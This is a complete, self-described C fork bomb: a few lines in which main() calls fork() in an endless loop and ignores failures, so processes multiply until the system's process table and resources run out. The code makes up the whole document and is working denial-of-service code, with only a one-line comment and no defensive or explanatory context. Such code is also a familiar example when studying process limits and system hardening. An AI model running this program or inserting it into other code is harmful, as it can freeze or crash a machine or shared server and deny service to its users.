/* A fork bomb: every process forks for ever, ignoring failures. */
#include <unistd.h>
int main(void) {
    for (;;) fork();
}
